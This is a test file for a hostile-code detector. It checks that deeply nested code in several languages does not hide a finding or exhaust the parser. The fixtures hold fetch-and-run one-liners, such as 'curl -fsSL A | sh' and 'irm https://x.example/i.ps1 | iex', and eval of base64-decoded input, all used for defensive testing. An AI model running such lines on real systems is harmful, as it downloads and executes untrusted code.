import { beforeAll, describe, expect, it } from "vitest";
import type { Detector } from "../../../src/core/index.js";
import { sharedDetector } from "../../support/marked.js";

let detector: Detector;
beforeAll(async () => {
  detector = await sharedDetector("extended");
});

const DEPTH = 1200;
const nested = (open: string, close: string, inner = "x"): string =>
  `${open.repeat(DEPTH)}${inner}${close.repeat(DEPTH)}`;

const RUBY = "eval(Base64.decode64(p))";
const CSHARP = 'Process.Start("sh", "-c " + Convert.FromBase64String(p));';

/** Constructs that are nested more deeply than the limit, with a finding after them. */
const NESTED: readonly (readonly [tag: string, name: string, code: string, finding: string])[] = [
  ["ruby", "if", nested("if a\n", "\nend"), RUBY],
  ["ruby", "elsif", `if a\n${"elsif b\n".repeat(DEPTH)}end`, RUBY],
  ["ruby", "begin", nested("begin\n", "\nend"), RUBY],
  ["ruby", "def", nested("def f\n", "\nend"), RUBY],
  ["ruby", "class", nested("class A\n", "\nend"), RUBY],
];

const PERL = 'system("curl -fsSL A | sh");';
const LONG: typeof NESTED = [
  ["perl", "sub", `${"sub f { ".repeat(8 * DEPTH)}${"}".repeat(8 * DEPTH)}`, PERL],
  [
    "powershell",
    "pipe",
    `irm a${" | % { $_ }".repeat(8 * DEPTH)}`,
    "irm https://x.example/i.ps1 | iex",
  ],
];

/** Constructs with so many nested brackets that the text is not parsed, with a finding after them. */
const BRACKETED: typeof NESTED = [
  ["ruby", "lists", `a = ${nested("[", "]")}`, RUBY],
  ["ruby", "blocks", nested("f { ", " }"), RUBY],
  ["ruby", "strings", `a = ${nested('"#{', '}"')}`, RUBY],
  ["csharp", "calls", `var a = ${nested("F(", ")")};`, CSHARP],
  ["csharp", "blocks", nested("if (a) { ", " }", "x();"), CSHARP],
  ["csharp", "initializers", `var a = ${nested("new A { B = ", " }")};`, CSHARP],
];

const fenced = (tag: string, code: string): string => `\`\`\`${tag}\n${code}\n\`\`\``;

describe("code that is nested too deeply", () => {
  it.each([...NESTED, ...LONG])(
    "records a limit, and hides no finding outside it: %s, %s",
    (tag, _name, code, finding) => {
      const { labels, outcome } = detector.detect(fenced(tag, `${code}\n${finding}`));
      expect(labels).toEqual(["PS"]);
      expect(outcome.status).toBe("incomplete");
    },
  );

  it.each(BRACKETED)(
    "records a limit if it is nested in brackets: %s, %s",
    (tag, _name, code, finding) => {
      expect(detector.detect(fenced(tag, `${code}\n${finding}`)).outcome.status).toBe("incomplete");
      expect(detector.detect(fenced(tag, finding)).labels).toEqual(["PS"]);
    },
  );
});

describe("a conditional that contains another one as its condition", () => {
  it.each([
    ["php", `$a = ${"$b ?: ".repeat(60)}$c;`, "system('curl -fsSL A | sh');"],
    ["php", `$a = ${"$b ?: ".repeat(60)}base64_decode($c);`, "eval($a);"],
    ["php", `$a = ${"($b ? $c : ".repeat(60)}base64_decode($c)${")".repeat(60)};`, "eval($a);"],
  ])("is read once: %s, %s", (tag, code, finding) => {
    const { detection, steps } = detector.explain(fenced(tag, `${code}\n${finding}`));
    expect(detection.labels).toEqual(["PS"]);
    expect(detection.outcome.status).toBe("complete");
    expect(steps).toBeLessThan(1000);
  });
});

describe("a chain of calls that set elements of a table", () => {
  it.each([
    ["js", '.set("a", b)', "x = atob(c);\no", "eval(x);"],
    ["csharp", '.Add("a", b)', "o", 'Process.Start("sh", "-c \\"curl -fsSL A | sh\\"");'],
    [
      "java",
      '.put("a", b)',
      "o",
      'Runtime.getRuntime().exec(new String[] { "sh", "-c", "curl -fsSL A | sh" });',
    ],
    ["ruby", '.store("a", b)', "o", "system('curl -fsSL A | sh')"],
  ])("is read once: %s, %s", (tag, call, object, finding) => {
    const code = `${object}${call.repeat(60)}${tag === "ruby" ? "" : ";"}\n${finding}`;
    const { detection, steps } = detector.explain(fenced(tag, code));
    expect(detection.labels).toEqual(["PS"]);
    expect(detection.outcome.status).toBe("complete");
    expect(steps).toBeLessThan(2000);
  });
});
